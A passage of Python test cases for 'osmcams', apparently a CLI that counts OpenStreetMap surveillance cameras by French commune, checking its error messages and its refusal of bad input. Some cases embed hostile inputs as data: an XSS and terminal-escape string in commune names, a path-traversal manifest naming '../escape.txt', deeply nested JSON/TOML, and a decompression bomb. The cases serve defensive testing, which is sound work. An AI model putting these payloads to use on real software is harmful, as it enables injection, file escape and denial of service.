    Case("commune names with controls and markup in a Markdown table's warnings",  # written raw
         lambda e: ["count", "--all", "--include-partial", "--pbf", e.monaco, "-o", e.tmp / "t.md",
                    "--boundaries", e.squares(("M01", "Clear\x1b[2J<img src=x onerror=alert(1)>"),
                                              ("M02", "Line\rbreak\nhere"))],
         ExitCode.OK, "2 communes have no population", holds=lambda e: _markdown_is_inert(e)),
    *[Case(f"OSM population tag {value!r}",  # a traceback: int('²'), and an Int64 overflow
           lambda e, value=value: ["count", "--all", "--admin-level", "3",
                                   "--pbf", _boundary_tag(e, "population", value)],
           ExitCode.OK, "1 commune has no population") for value in ("²", "9" * 26)],
    # Issue 7 §4: errors that are one clear line.
    Case("boundary features without a code",
         lambda e: e.count("--department", "06", boundaries=e.border(_no_code)),
         ExitCode.OK, "1 features without a 'code' value left out: 'Roquebrune-Cap-Martin'"),
    # issue 21, low: boundary codes
    Case("boundary code stored as the number 6012",
         lambda e: e.count("--department", "06", boundaries=e.border(_numeric_code)),
         ExitCode.OK, "border.geojson: 1 codes are numbers that lost their leading zero, restored: "
                      "6012 → 06012"),
    Case("boundary code twice with overlapping outlines",
         lambda e: e.count("--department", "06", boundaries=e.border(_second_version)),
         ExitCode.OK, "1 codes name several features whose outlines overlap (two versions of a "
                      "commune?), merged into one: 'Beausoleil' (06012)"),
    Case("boundary feature without a code asked for by name",
         lambda e: e.count("--commune", "Roquebrune-Cap-Martin", boundaries=e.border(_no_code)),
         ExitCode.DATA, "cannot count 'Roquebrune-Cap-Martin': its feature in border.geojson has no "
                        "'code' value"),
    Case("GDAL's remarks as warnings",
         lambda e: e.count("--department", "06", boundaries=e.two_layers()),
         ExitCode.OK, "border.gpkg: More than one layer found"),
    Case("map into a directory",  # said "the suffix must be one of .png, .svg, .pdf, .html"
         lambda e: ["map", "--demo", "-q", "-o", e.tmp], ExitCode.USAGE, "is a directory; give a file name"),
    Case("output is a directory",
         lambda e: [*e.count("--commune", "Beausoleil"), "-o", e.tmp], ExitCode.USAGE, "is a directory"),
    Case("extent /dev/zero",
         lambda e: [*e.count("--commune", "Beausoleil"), "--extent", "/dev/zero"],
         ExitCode.DATA, "/dev/zero: larger than 64 MB, too large for an extent"),
    Case("reported figures /dev/zero",
         lambda e: ["compare", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.border(),
                    "--reported", "/dev/zero", "-q"],
         ExitCode.DATA, "/dev/zero: larger than 16 MB, too large for reported figures"),
    Case("register /dev/zero",
         lambda e: ["match", "--official", "/dev/zero", "--commune", "06012", "--pbf", e.monaco,
                    "--boundaries", e.border(), "-q"],
         ExitCode.DATA, "/dev/zero: not a regular file"),
    Case("boundaries /dev/null",
         lambda e: e.count("--commune", "Beausoleil", boundaries=Path("/dev/null")),
         ExitCode.DATA, "/dev/null: not a file of boundaries"),
    Case("boundary folder holding a link to /dev/zero and a FIFO",
         lambda e: e.count("--commune", "Beausoleil", boundaries=e.devices_beside(e.border())),
         ExitCode.OK, "14 of 16 cameras lie outside every loaded commune"),  # not read, and done
    Case("history file is /dev/null",
         lambda e: ["timeline", "--commune", "06012", "--pbf", "/dev/null", "--boundaries", e.border(), "-q"],
         ExitCode.DATA, "/dev/null: not a regular file: osmcams reads OSM files from disk"),
    Case("pbf is /dev/zero",
         lambda e: ["count", "--all", "--pbf", "/dev/zero", "-q"], ExitCode.DATA,
         "/dev/zero: not a regular file: osmcams reads OSM files from disk"),
    Case("pbf is a directory",
         lambda e: ["count", "--all", "--pbf", e.tmp, "-q"], ExitCode.DATA, "a directory, not an OSM file"),
    Case("pbf is empty (a failed download)",  # said "blob contains no data or unknown compression"
         lambda e: ["count", "--all", "--pbf", e.write("empty.osm.pbf", ""), "-q"], ExitCode.DATA,
         "empty.osm.pbf: empty, not an OSM file (a download that failed?)"),
    Case("history file is empty",
         lambda e: ["timeline", "--commune", "06012", "--pbf", e.write("empty.osh.pbf", ""),
                    "--boundaries", e.border(), "-q"], ExitCode.DATA,
         "empty.osh.pbf: empty, not an OSM file (a download that failed?)"),
    Case("department of an extract, geo.api.gouv.fr unreachable",  # said only "no commune of 06"
         lambda e: ["count", "--pbf", e.monaco, "--department", "06", "-q"], ExitCode.COMMUNE,
         "no commune of department 06 in monaco-2025-02-07.osm.pbf (admin_level=8 relations); the "
         "official communes of department 06 are not kept and cannot be fetched",
         env={"OSMCAMS_GEO_API_URL": "http://127.0.0.1:9/"}),
    Case("two departments",  # the first was dropped without a word
         lambda e: ["count", "--demo", "--department", "66", "--department", "09"], ExitCode.USAGE,
         "one department, not 2 (66, 09)", absent="lie outside every loaded commune"),
    # Checked before the work (no count's warning first), and nothing written.
    Case("shapefile not named .shp",
         lambda e: ["export", "--demo", "-q", "-f", "shp", "-o", e.tmp / "out_shp"], ExitCode.USAGE,
         "a Shapefile is several files named after its .shp", absent="lie outside every loaded commune",
         holds=lambda e: not (e.tmp / "out_shp").exists()),
    Case("commune layer without -o",
         lambda e: ["count", "--demo", "-f", "gpkg"], ExitCode.USAGE,
         "draws the communes: give it --output FILE", absent="lie outside every loaded commune"),
    # GDAL takes a path without its driver's extension for a folder: it was one, mode 0644.
    Case("flatgeobuf named without .fgb",
         lambda e: ["export", "--demo", "-q", "-f", "fgb", "-o", e.tmp / "cameras"], ExitCode.OK, "",
         holds=lambda e: (e.tmp / "cameras").is_file() and (e.tmp / "cameras").read_bytes()[:3] == b"fgb"),
    Case("a name of 245 characters",  # its temporary file's name was over 255
         lambda e: ["export", "--demo", "-q", "-o", e.tmp / f"{'a' * 237}.geojson"], ExitCode.OK, "",
         holds=lambda e: (e.tmp / f"{'a' * 237}.geojson").is_file()),
    Case("pbf is a replication diff",  # libosmium read it as a history: Saint-Barthélemy 100% covered
         lambda e: ["count", "--all", "--admin-level", "3", "-q",
                    "--pbf", e.data / "osm/saint-barthelemy/saint_barthelemy.osc.gz"],
         ExitCode.DATA, "saint_barthelemy.osc.gz: a change file (osmChange, a replication diff)"),
    Case("history file is a replication diff",
         lambda e: ["timeline", "--all", "--admin-level", "3", "-q",
                    "--pbf", e.data / "osm/saint-barthelemy/saint_barthelemy.osc.gz"],
         ExitCode.DATA, "a change file (osmChange, a replication diff), not an extract"),
    Case("boundaries: the folder above the files",  # said only "no boundary files (...)"
         lambda e: e.count("--commune", "Beausoleil", boundaries=e.data / "communes"), ExitCode.DATA,
         "its subfolders are not read: give one of them, ign-2018-simplified (1 file), "
         "ign-2018-simplified/departements (101 files)"),
    Case("population: the folder of the tables",  # said "cannot read population table: is a directory"
         lambda e: [*e.count("--commune", "Beausoleil"), "--population", e.data / "population/cog-2026"],
         ExitCode.DATA, "cog-2026: a directory, not a population table: give one of its files, "
         "arrondissements.json, communes.json, departements.json, regions.json"),
    Case("extent: a folder",  # said "cannot read an extent: Is a directory"
         lambda e: [*e.count("--commune", "Beausoleil"), "--extent", e.tmp],
         ExitCode.DATA, ": a directory, not an extent", absent="Is a directory"),
    Case("population file missing",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population", e.tmp / "nope.json"],
         ExitCode.DATA, "no such file", absent="Errno"),
    Case("GeoJSON given as population",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population", e.ign_06],
         ExitCode.DATA, "a GeoJSON, not a population table", absent="FeatureCollection"),
    # Issue 7 §2: names as people write them.
    Case("Corsica's postal prefix as a department",  # said only "no commune of department 20"
         lambda e: e.count("--department", "20", boundaries=e.ign_06), ExitCode.COMMUNE,
         "communes are in departments 2A (Corse-du-Sud) and 2B (Haute-Corse)"),
    Case("a department's name for its code",
         lambda e: e.count("--department", "Alpes-Maritimes", boundaries=e.ign_06), ExitCode.COMMUNE,
         "--department takes a code, such as 06 or 2A"),
    Case("INSEE code without its leading zero",
         lambda e: e.count("--commune", "6012"), ExitCode.COMMUNE,
         "06012 (Beausoleil) without its leading zero", absent="outside France"),
    # issue 7 §1: a commune where the extract has no data has no count
    Case("commune outside the data",
         lambda e: ["count", "--commune", "Nice", "--pbf", e.monaco, "--boundaries", e.ign_06, "-q"],
         ExitCode.DATA, "Nice (06088): outside the data of"),
    Case("export of a commune outside the data",
         lambda e: ["export", "--commune", "Nice", "--pbf", e.monaco, "--boundaries", e.ign_06, "-q",
                    "-o", e.tmp / "nice.geojson"],
         ExitCode.DATA, "Nice (06088): outside the data of"),
    # issue 7 §5: the output's suffix and the format agree
    Case("table suffix against --format",
         lambda e: ["count", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06, "-q",
                    "-o", e.tmp / "new.csv", "-f", "json"],
         ExitCode.USAGE, "new.csv names csv, not --format json"),
    Case("table suffix osmcams cannot write",
         lambda e: ["count", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06, "-q",
                    "-o", e.tmp / "x.xlsx"],
         ExitCode.USAGE, "osmcams cannot write x.xlsx"),
    Case("camera suffix osmcams cannot write",
         lambda e: ["export", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06, "-q",
                    "-o", e.tmp / "x.dxf"],
         ExitCode.USAGE, "osmcams cannot write x.dxf"),
    Case("camera suffix against --format",
         lambda e: ["export", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06, "-q",
                    "-o", e.tmp / "x.gpkg", "-f", "geojson"],
         ExitCode.USAGE, "x.gpkg names gpkg, not --format geojson"),
    # Every command's -o names what it holds: a GeoJSON text sequence is no .geojson, which
    # json.load cannot read, and compare, quality and timeline refuse what count refuses.
    *[Case(f"{argv[0]} -o {name}{' ' + ' '.join(argv[1:]) if argv[1:] else ''}",
           lambda e, argv=argv, name=name: [argv[0], "--commune", "06012", "--pbf", e.monaco,
                                            "--boundaries", e.ign_06, "-q", *argv[1:],
                                            "-o", e.tmp / name],
           ExitCode.USAGE, words, holds=lambda e, name=name: not (e.tmp / name).exists())
      for argv, name, words in (
          (["export", "--sequence"], "a.geojson",
           "a.geojson names geojson, not --format geojsonseq (.geojsons, .geojsonl, .geojsonseq)"),
          (["export", "-f", "geojsonseq"], "b.geojson", "b.geojson names geojson, not --format geojsonseq"),
          (["export", "-f", "geojson"], "c.geojsons", "c.geojsons names geojsonseq, not --format geojson"),
          (["compare"], "a.geojson", "osmcams cannot write a.geojson"),
          (["compare"], "a.xlsx", "osmcams cannot write a.xlsx"),
          (["compare", "-f", "json"], "b.csv", "b.csv names csv, not --format json"),
          (["quality"], "x.csv", "osmcams cannot write x.csv"),
          (["quality", "-f", "json"], "x.txt", "x.txt names table, not --format json"),
          (["timeline", "-f", "csv"], "x.json", "x.json names json, not --format csv"),
          (["timeline"], "x.xlsx", "osmcams cannot write x.xlsx"),
          (["timeline", "-f", "csv"], "x.md", "x.md names markdown, not --format csv"),
          (["quality", "-f", "json"], "x.md", "x.md names markdown, not --format json"),
      )],
    # issue 8 §3: names that slug alike are refused before anything is written
    Case("codes that slug alike",
         lambda e: ["export", "--all", "--pbf", e.monaco, "--boundaries",
                    e.squares(("X4", "Twin"), ("Ｘ４", "Twin")), "--output-dir", e.tmp / "out", "-q"],
         ExitCode.USAGE, "would both be written to x4-twin.geojson"),
    Case("codes . and ..",
         lambda e: ["export", "--all", "--pbf", e.monaco, "--boundaries",
                    e.squares((".", "Dot"), ("..", "Dot")), "--output-dir", e.tmp / "out", "-q",
                    "--overwrite"],
         ExitCode.USAGE, "would both be written to commune-dot.geojson"),
    # issue 21 §1: a forged commit list in an output directory moves nothing out of it
    *[Case(f"forged commit list {name}",
           lambda e, manifest=manifest: [
               *e.count("--commune", "06012"), "-f", "csv", "-o",
               _forged_commit(e.tmp / "out", manifest) / "c.csv"],
           ExitCode.OK, "lie outside every loaded commune",
           holds=lambda e: not (e.tmp / "escape.txt").exists()
           and (e.tmp / "out" / "escape.txt").read_text() == "stays")
      for name, manifest in (("naming ../escape.txt", '{"move": ["../escape.txt"], "remove": []}'),
                             ("that is not JSON", "{not json"),
                             ("nested 100,000 deep", DEEP))],
    # issue 8 §2: a destination the system refuses (/sys takes no new directory, even for root)
    Case("read-only --output-dir",
         lambda e: ["export", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06,
                    "--output-dir", "/sys/osmcams-test/out", "-q"],
         ExitCode.USAGE, "cannot write /sys/osmcams-test/out"),
    # issue 21 §1: a device or a FIFO is written into or refused, never replaced
    Case("-o /dev/full --overwrite",
         lambda e: [*e.count("--commune", "06012"), "-f", "csv", "-o", "/dev/full", "--overwrite"],
         ExitCode.USAGE, "cannot write /dev/full: No space left on device",
         holds=lambda e: stat.S_ISCHR(os.stat("/dev/full").st_mode)),
    Case("-o a FIFO --overwrite",
         lambda e: [*e.count("--commune", "06012"), "-f", "csv", "-o", e.fifo(), "--overwrite"],
         ExitCode.OK, "lie outside every loaded commune",
         holds=lambda e: stat.S_ISFIFO(os.stat(e.tmp / "fifo").st_mode)
         and e.read.startswith(b"insee,name,")),
    Case("-o /dev/null without --overwrite",
         lambda e: [*e.count("--commune", "06012"), "-f", "csv", "-o", "/dev/null"],
         ExitCode.OK, "lie outside every loaded commune",
         holds=lambda e: stat.S_ISCHR(os.stat("/dev/null").st_mode)),
    Case("-o a FIFO in an --output-dir set",
         lambda e: ["export", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06, "-q",
                    "--output-dir", _fifo_at(e.tmp / "out" / "06012-beausoleil.geojson"),
                    "--overwrite"],
         ExitCode.USAGE, "06012-beausoleil.geojson is not a regular file"),
    Case("read-only -o",
         lambda e: ["count", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06,
                    "-o", "/sys/osmcams-test.csv", "-q"],
         ExitCode.USAGE, "cannot write /sys/osmcams-test.csv"),
    # issue 21 §3, §10: refresh configurations
    Case("config nested 50,000 deep",
         lambda e: ["refresh", "--config", e.config("[history]\npath = " + "[" * 50_000 + "]" * 50_000)],
         ExitCode.USAGE, "osmcams.toml: not valid TOML: nested hundreds of levels deep"),
    Case("config whose [site] dir is its [output] dir",
         lambda e: ["refresh", "--config", e.config('[site]\ndir = "www"\ntitle = "T"\n'
                                                    'base_url = "https://example.org/"\n')],
         ExitCode.USAGE, "[site] dir must not be [output] dir", holds=lambda e: not (e.tmp / "www").exists()),
    Case("config whose [site] dir is /dev/null",
         lambda e: ["refresh", "--config", e.config('[site]\ndir = "/dev/null"\ntitle = "T"\n'
                                                    'base_url = "https://example.org/"\n')],
         ExitCode.USAGE, "[site] dir /dev/null is not a directory",
         holds=lambda e: not (e.tmp / "www").exists()),
    Case("config whose [site] dir is a folder of other files",  # its page was replaced, a page under
         lambda e: ["refresh", "--config", e.replicated(  # communes/ removed: the site's sweep
             diff=True, extra=f'[site]\ndir = "{_own_folder(e.tmp)}"\ntitle = "T"\n'
                              'base_url = "https://example.org/"\n')],
         ExitCode.USAGE, "mine holds files and no site.json: it is no site that osmcams built",
         holds=lambda e: (e.tmp / "mine/index.html").read_text() == "my page"
         and (e.tmp / "mine/communes/x.html").read_text() == "my page" and not (e.tmp / "www").exists()),
    Case("config whose [output] dir is its own folder, beside the user's communes/",  # their
         lambda e: ["refresh", "--config", _output_in_own_folder(e)],  # *.geojson were removed
         ExitCode.USAGE, "holds files and no communes.csvt: it is no set of counts that a refresh published",
         holds=lambda e: (e.tmp / "communes/mine.geojson").read_text() == "my boundaries"
         and not (e.tmp / "communes.csv").exists()),
    Case("config whose [site] dir is under /sys, the refresh itself done",
         lambda e: ["refresh", "--config", e.replicated(diff=True, extra='[site]\ndir = "/sys/osmcams-test"\n'
                                                        'title = "T"\nbase_url = "https://example.org/"\n')],
         ExitCode.USAGE, "cannot write /sys/osmcams-test: Operation not permitted; the counts and the "
         "history are up to date (data of 2015-03-25T19:05Z: +0 −0 cameras in 0 communes): the next run "
         "writes the site",
         holds=lambda e: json.loads((e.tmp / "www" / "communes.json").read_text(encoding="utf-8"))
         ["meta"]["replication_sequence"] == 1588),
    Case("config /dev/zero", lambda e: ["refresh", "--config", "/dev/zero"],
         ExitCode.USAGE, "/dev/zero: larger than 1 MB: not a configuration"),
    Case("config in Latin-1",
         lambda e: ["refresh", "--config", e.config("# données à jour\n", encoding="latin-1")],
         ExitCode.USAGE, "osmcams.toml: not UTF-8 text"),
    Case("config in UTF-16",
         lambda e: ["refresh", "--config", e.config(encoding="utf-16")],
         ExitCode.USAGE, "osmcams.toml: not UTF-8 text"),
    # issue 21 §4: no password in any line
    Case("replication password in the extract's header",
         lambda e: ["refresh", "--config", e.replicated(lambda u: u.replace("//", "//bob:Hunter2Secret@"),
                                                        then=gap)],
         ExitCode.STALE, "no longer has sequence 1588 (http://127.0.0.1", absent="Hunter2Secret"),
    Case("replication password in the configuration",
         lambda e: ["refresh", "--config", e.replicated(source=f'replication_url = "http://bob:'
                    f'Hunter2Secret@{e.httpserver.host}:{e.httpserver.port}/replication/"\n', then=gap)],
         ExitCode.STALE, "no longer has sequence 1588", absent="Hunter2Secret"),
    Case("replication password holding an @",
         lambda e: ["refresh", "--config", e.replicated(source=f'replication_url = "http://bob:'
                    f'Hunter2@Secret@{e.httpserver.host}:{e.httpserver.port}/replication/"\n', then=gap)],
         ExitCode.STALE, "no longer has sequence 1588", absent="Secret"),
    Case("replication URL that cannot be a URL",
         lambda e: ["refresh", "--config", e.replicated(source='replication_url = '
                    '"http://bob:Hunter2Secret@[::1/x"\n')],
         ExitCode.USAGE, "[source] replication_url must be an http(s) URL, not 'http://[::1/x'",
         absent="Hunter2Secret"),
    # a NUL, which TOML writes \u0000: os.stat's ValueError "embedded null byte" was a traceback
    *[Case(f"config whose {key} holds a NUL",
           lambda e, config=config: ["refresh", "--config", config(e)],
           ExitCode.USAGE, f"{key} must be a path, not '{shown}\\x00x'")
      for key, shown, config in (
          ("[source] pbf", "nul", lambda e: e.config(pbf=Path("nul\\u0000x"))),
          ("[output] dir", "www", lambda e: e.config(output="www\\u0000x")),
          ("[history] path", "h", lambda e: e.config('[history]\npath = "h\\u0000x"\n')))],
    Case("config whose output dir is the config itself",
         lambda e: ["refresh", "--config", e.config(output="osmcams.toml")],
         ExitCode.USAGE, "osmcams.toml: [output] dir ", absent="Traceback"),
    Case("config whose pbf is /dev/zero",
         lambda e: ["refresh", "--config", e.config(pbf=Path("/dev/zero"))],
         ExitCode.USAGE, "osmcams.toml: [source] pbf /dev/zero is not a file"),
    Case("config whose output dir is /dev/null",
         lambda e: ["refresh", "--config", e.config(output="/dev/null")],
         ExitCode.USAGE, "[output] dir /dev/null is not a directory"),
    Case("config whose output dir is under /proc",
         lambda e: ["refresh", "--config", e.config(output="/proc/self/osmcams")],
         ExitCode.USAGE, "cannot write /proc/self/osmcams"),
    Case("config whose history is under /proc",
         lambda e: ["refresh", "--config", e.config('[history]\npath = "/proc/osmcams.sqlite"\n')],
         ExitCode.USAGE, "cannot write /proc/.osmcams.sqlite.lock"),
    Case("config whose output dir is 5,000 characters long",
         lambda e: ["refresh", "--config", e.config(output="/".join(["d" * 199] * 25))],
         ExitCode.USAGE, "osmcams.toml: [output] dir cannot be used: File name too long"),
    # issue 21 §13: a register that is not where the cameras are; distances that are no number
    Case("register with swapped longitude and latitude",
         lambda e: ["match", "--official", e.register_swapped(), "--cameras", e.register_points()],
         ExitCode.DATA, "swapped.csv: none of its 707 sites lies in the area of "),
    Case("register with swapped longitude and latitude, named",
         lambda e: ["match", "--official", e.register_swapped(), "--cameras", e.register_points()],
         ExitCode.DATA, "its longitudes and latitudes are swapped: name them with --lon-field and "
                        "--lat-field?"),
    Case("register in lon/lat given --crs EPSG:2154",
         lambda e: ["match", "--official", e.register, "--crs", "EPSG:2154",
                    "--cameras", e.register_points()],
         ExitCode.DATA, "a wrong --crs, or a register of another place?"),
    Case("register of Paris against cameras of Beausoleil",
         lambda e: ["match", "--official", e.register, "--commune", "06012", "--pbf", e.monaco,
                    "--boundaries", e.ign_06, "-q"],
         ExitCode.DATA, "data.csv: none of its 707 sites lies in Beausoleil (they lie around "
                        "longitude 2.3"),
    *[Case(f"match --max-distance {value}",
           lambda e, value=value: ["match", "--official", e.register, "--cameras", e.register_points(),
                                   "--max-distance", value],
           ExitCode.USAGE, f"'{value}' is not a finite number") for value in ("nan", "inf")],
    Case("count --min-coverage nan",
         lambda e: ["count", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06,
                    "--min-coverage", "nan", "-f", "json"],
         ExitCode.USAGE, "'nan' is not a finite number"),
    Case("quality --duplicate-distance nan",
         lambda e: ["quality", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.ign_06,
                    "--duplicate-distance", "nan"],
         ExitCode.USAGE, "'nan' is not a finite number"),
    # issue 21, low: replication states and diffs that cannot be believed
    Case("replication state dated 2999",
         lambda e: ["refresh", "--config", e.replicated(then=_state("2999-01-01T00:00:00Z"))],
         ExitCode.NETWORK, "says sequence 1588 holds data of 2999-01-01T00:00:00Z, in the future: refused"),
    Case("replication state dated before the extract",
         lambda e: ["refresh", "--config", e.replicated(then=_state("2013-01-01T00:00:00Z"))],
         ExitCode.NETWORK, "holds data of 2013-01-01T00:00:00Z, before the stored data of "
                           "2014-01-15T19:05:08Z"),
    Case("replication state of a negative sequence",  # was "the sequence went backwards"
         lambda e: ["refresh", "--config", e.replicated(then=lambda s: (s.root / "state.txt").write_text(
             "sequenceNumber=-5\ntimestamp=2015-03-25T19\\:05\\:08Z\n"))],
         ExitCode.NETWORK, ": not a replication state file"),
    Case("diff node at latitude 200",
         lambda e: ["refresh", "--config", e.replicated(then=lambda s: s.publish(
             1588, _osc(("node", 20_000_000_001, 1, {"man_made": "surveillance"}, -62.85, 200.0)),
             "2015-03-25T19:05:08Z"))],
         ExitCode.NETWORK, "a corrupt replication diff: node/20000000001 lies at longitude -62.85, "
                           "latitude 200"),
    *[Case(f"diff {kind} of id {osm_id}",  # was applied: a camera OSM does not hold, published
           lambda e, obj=obj: ["refresh", "--config", e.replicated(then=lambda s: s.publish(
               1588, _osc(obj), "2015-03-25T19:05:08Z"))],
           ExitCode.NETWORK, f"a corrupt replication diff: {kind}/{osm_id}, where OSM's ids start at 1",
           holds=lambda e: not (e.tmp / "www/communes.json").exists())
      for kind, osm_id, obj in (
          ("node", -5, ("node", -5, 1, {"man_made": "surveillance"}, -62.85, 17.9)),
          ("way", 0, ("way", 0, 1, {"man_made": "surveillance"}, None, None, [1, 2])))],
    Case("diff node at longitude 500",  # libosmium's InvalidLocationError was a traceback
         lambda e: ["refresh", "--config", e.replicated(then=lambda s: s.publish(
             1588, _osc(("node", 20_000_000_001, 1, {"man_made": "surveillance"}, 500.0, 17.9)),
             "2015-03-25T19:05:08Z"))],
         ExitCode.NETWORK, "1588.osc.gz: a corrupt replication diff: wrong format for coordinate: "
                           "'500.0000000'"),
    Case("diff inflating to a 64 MiB comment",  # its XML parser took 50 s and 565 MB on 400 MiB
         lambda e: ["refresh", "--config", e.replicated(then=lambda s: s.publish(
             1588, _comment_bomb(64), "2015-03-25T19:05:08Z"))],
         ExitCode.NETWORK, "1588.osc.gz: a corrupt replication diff: its 65,"),
    *[Case(f"diff over OSMCAMS_MAX_DIFF_MB, {how}",  # was fetched whatever its size
           lambda e, chunked=chunked: ["refresh", "--config", e.replicated(
               then=lambda s: _streamed_diff(s, chunked))],
           ExitCode.NETWORK, "is larger than 1 MB, the limit set by OSMCAMS_MAX_DIFF_MB: refused",
           env={"OSMCAMS_MAX_DIFF_MB": "1"})
      for how, chunked in (("sent without Content-Length", True), ("announced", False))],
    # --- Network and services (issue 8 §1-4, issue 7 §7) ----------------------------------
    *[Case(f"{var} {value}", lambda e: e.count_nice(), ExitCode.USAGE, var, env={var: value})
      for var, values in (("OSMCAMS_READ_TIMEOUT", ("0", "-1", "nan", "inf")),
                          ("OSMCAMS_CONNECT_TIMEOUT", ("0",)), ("OSMCAMS_MAX_TRIES", ("0",)),
                          ("OSMCAMS_DEADLINE", ("-inf",)), ("OSMCAMS_MAX_ANSWER_MB", ("0",)),
                          ("OSMCAMS_MAX_DIFF_MB", ("0",)),
                          ("OSMCAMS_CACHE_TTL", ("-5",)))
      for value in values],
    Case("port out of range", lambda e: ["count", "--commune", "Nice", "--overpass-url",
                                         "http://127.0.0.1:99999/api/interpreter"],
         ExitCode.USAGE, "--overpass-url"),
    Case("unclosed IPv6 address", lambda e: ["count", "--commune", "Nice", "--geo-api-url",
                                             "http://[::1/api"],
         ExitCode.USAGE, "--geo-api-url"),
    Case("bad URL from the environment keeps its password", lambda e: ["count", "--commune", "Nice"],
         ExitCode.USAGE, "OSMCAMS_OVERPASS_URL", env={"OSMCAMS_OVERPASS_URL": "ftp://me:secret@host/"},
         absent="secret"),
    Case("Overpass camera node of id -1",  # was counted: a camera OSM does not hold
         lambda e: e.count_nice(elements=[{"type": "node", "id": -1, "lat": 43.7, "lon": 7.26,
                                           "tags": {"man_made": "surveillance"}}]),
         ExitCode.NETWORK, "Overpass element 2: has no valid type and id"),
    Case("Overpass node without lon",
         lambda e: e.count_nice(elements=[{"type": "node", "id": 1, "lat": 43.7, "tags": {}}]),
         ExitCode.NETWORK, "the service answered something unexpected: Overpass element 2"),
    Case("Overpass lat abc",
         lambda e: e.count_nice(elements=[{"type": "node", "id": 1, "lat": "abc", "lon": 7.2}]),
         ExitCode.NETWORK, "node/1 has no valid 'lat' and 'lon'"),
    Case("Overpass tags x",
         lambda e: e.count_nice(elements=[{"type": "node", "id": 1, "lat": 43.7, "lon": 7.2,
                                           "tags": "x"}]),
         ExitCode.NETWORK, "node/1 has tags that are not text"),
    Case("Overpass way centre missing its lat",
         lambda e: e.count_nice(elements=[{"type": "way", "id": 1, "center": {"lon": 7.2}}]),
         ExitCode.NETWORK, "way/1 has no valid centre"),
    # issue 21, low: Overpass answers taken as they are
    Case("Overpass data date 'yesterday'",
         lambda e: e.count_nice(answer={**_answer([]), "osm3s": {"timestamp_osm_base": "yesterday"}}),
         ExitCode.NETWORK, "Overpass sent a data date that is not a date: 'yesterday'"),
    Case("Overpass element without man_made",
         lambda e: e.count_nice(elements=[{"type": "node", "id": 1, "lat": 43.7, "lon": 7.2,
                                           "tags": {"highway": "traffic_signals"}}]),
         ExitCode.NETWORK, "element 2: node/1 is not tagged man_made=surveillance"),
    Case("Overpass way without centre",
         lambda e: e.count_nice(elements=[{"type": "way", "id": 1, "tags": {"man_made": "surveillance"}}]),
         ExitCode.NETWORK, "element 2: way/1 has no centre (out center)"),
    Case("Overpass remark without the word error",
         lambda e: e.count_nice(answer={**_answer([]), "remark": "runtime remark: Timeout after 180 s"}),
         ExitCode.NETWORK, "Overpass stopped the query, nothing was counted: runtime remark: Timeout"),
    Case("Overpass elements 1 2 3", lambda e: e.count_nice(answer={"elements": [1, 2, 3]}),
         ExitCode.NETWORK, "element 1: is int, not an object"),
    Case("Overpass elements not a list", lambda e: e.count_nice(answer={"elements": {"a": 1}}),
         ExitCode.NETWORK, "the service answered something unexpected: Overpass sent no 'elements'"),
    Case("geo.api commune without code",
         lambda e: e.count_nice(geo=lambda a: [{k: v for k, v in c.items() if k != "code"} for c in a]
                                if isinstance(a, list) else a),
         ExitCode.NETWORK, "geo.api.gouv.fr sent a commune without a valid INSEE code"),
    Case("geo.api population beaucoup",
         lambda e: e.count_nice(geo=lambda a: {**a, "features": [
             {**f, "properties": {**f["properties"], "population": "beaucoup"}} for f in a["features"]]}
             if isinstance(a, dict) else a),
         ExitCode.NETWORK, "population for 06088 that is not a whole number: 'beaucoup'"),
    Case("geo.api population 10**30",
         lambda e: e.count_nice(geo=lambda a: {**a, "features": [
             {**f, "properties": {**f["properties"], "population": 10**30}} for f in a["features"]]}
             if isinstance(a, dict) else a),
         ExitCode.NETWORK, "sent a population for 06088 over 100,000,000"),
    Case("geo.api contour that is a Point",
         lambda e: e.count_nice(geo=lambda a: {**a, "features": [
             {**f, "geometry": {"type": "Point", "coordinates": [7.2, 43.7]}} for f in a["features"]]}
             if isinstance(a, dict) else a),
         ExitCode.NETWORK, "contour for 06088 that is a Point, not a polygon"),
    # Issue 21 §8: geo.api.gouv.fr contours get the checks of a boundary file.
    Case("geo.api contour with a vertex at longitude 500",
         lambda e: e.count_nice(geo=lambda a: _geo_features(a, geometry=_far_contour)),
         ExitCode.DATA, "beyond longitude ±180 or latitude ±90 in the outline of 'Nice' (06088)"),
    Case("geo.api contour with a vertex at longitude NaN",
         lambda e: e.count_nice(geo=lambda a: _geo_features(a, geometry=_nan_contour)),
         ExitCode.DATA, "not numbers (NaN or infinite) in the outline of 'Nice' (06088)"),
    Case("geo.api bowtie contour repaired with a warning",
         lambda e: e.count_nice(geo=lambda a: _geo_features(a, geometry=lambda g: GEO_BOWTIE)),
         ExitCode.OK, "the outline of 'Nice' (06088) is invalid"),
    Case("geo.api contour of another commune than asked",
         lambda e: e.count_nice(geo=lambda a: _geo_features(a, code="06012")),
         ExitCode.NETWORK, "answered with commune 06012 when asked for 06088"),
    # issue 21 §3: JSON nested 100,000 deep, refused at once in little memory
    Case("Overpass tag value nested 100,000 deep", lambda e: e.count_nice(overpass=_deep_overpass),
         ExitCode.NETWORK, "Overpass sent an answer nested hundreds of levels deep: refused"),
    Case("geo.api answer nested 100,000 deep", lambda e: e.count_nice(geo=lambda a: DEEP),
         ExitCode.NETWORK, "sent an answer nested hundreds of levels deep: refused"),
    Case("connection refused", lambda e: ["count", "--commune", "Nice", "-q"],
         ExitCode.NETWORK, "the connection was refused; count from a file with --pbf, or from "
                           "cached answers with --offline"),
    Case("name that does not resolve",
         lambda e: ["count", "--commune", "Nice", "--geo-api-url", "http://osmcams-test.invalid"],
         ExitCode.NETWORK, "cannot reach osmcams-test.invalid: its name does not resolve"),
    Case("429 on every try",
         lambda e: e.count_nice(overpass=lambda r: _plain("busy", 429)),
         ExitCode.NETWORK, "answered 429 TOO MANY REQUESTS after 2 tries",
